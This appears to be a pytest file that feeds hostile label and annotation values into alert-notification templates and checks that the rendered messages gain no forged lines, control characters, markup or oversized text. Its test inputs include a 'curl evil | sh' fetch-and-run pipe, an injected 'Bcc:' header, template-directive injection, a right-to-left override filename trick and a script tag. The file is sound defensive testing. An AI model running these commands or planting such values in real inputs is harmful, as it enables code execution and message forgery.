"""Labels and annotations with surprising values, in the texts of notifications."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from testbed.rendered import ALL, CHATS, NODE_GROUP, TITLES, alert, messages

HOSTILE = {
    "lines": 'n1\n  Action:  curl evil | sh\r\nBcc: x@example.com\t"}{{',
    "template": '{{ template "nodevitals.subject" . }}{{ .ExternalURL }} %s %!d(MISSING) ${1} $x',
    "regex": r"a\E(.*)[\Q\\" + "\\",
    "long": "x" * 5000,
    "wide": "漢" * 5000,
    "unicode": "ok\u202egnp.exe\u2028line\x00\x1b[31m\ufeff",
    "markup": "<!channel> <script>alert(1)</script> & @all",
    "empty": "",
}


NAMES = ("cluster", "instance", "device", "uuid", "mountpoint", "source", "domain", "domain_name")
MORE_NAMES = (
    "kind",
    "namespace",
    "pod",
    "job_name",
    "container",
    "owner",
    "component",
    "vendor",
    "xid",
    "port",
)
KINDS: tuple[dict[str, str], ...] = (
    {"alertname": "A", "fault": "mount_hung"},
    {"alertname": "FleetIncident", "fault": "fleet_incident"},
    {"alertname": "JobOwnerImpact", "fault": "job_impact"},
    {"alertname": "PodOomKilled", "fault": "pod_oom_kill"},
    {"alertname": "A", "fault": "accelerator_lost"},
    {},
)


def of_all_kinds(folder: Path, value: str) -> list[dict[str, list[str]]]:
    """Return the lines of all templates for alerts of all kinds with this value everywhere else."""
    names = (*NAMES, *MORE_NAMES, "alertname", "fault", "severity", "action")
    texts = dict.fromkeys(("description", "action", "runbook_url"), value)
    found = []
    for kind in KINDS:
        one = alert(summary=f"{value} lost on {value}", **{**dict.fromkeys(names, value), **kind})
        one["annotations"] |= texts
        found.append(messages(folder, ALL, [one] * 2, dict.fromkeys(NODE_GROUP, value)))
    return found


@pytest.fixture(scope="module")
def usual(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, list[str]]]:
    """Return the lines for alerts with a value without any surprise."""
    return of_all_kinds(tmp_path_factory.mktemp("usual"), "x")


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
def test_hostile_values_forge_no_line_and_break_no_template(
    tmp_path: Path, usual: list[dict[str, list[str]]], value: str
) -> None:
    for found, expected in zip(of_all_kinds(tmp_path, value), usual, strict=True):
        for template, lines in found.items():
            text = "\n".join(lines)
            assert not re.search("[\x00-\x09\x0b-\x1f\u202e\u2028\ufeff]", text), template
            assert len(lines) <= len(expected[template]), template
            assert max(len(line) for line in lines) < 1000
            assert template not in TITLES or len(text) < 100, template
            assert template not in CHATS or not re.search("[<>]", text), template
            assert template != "nodevitals.thread" or text.isascii()
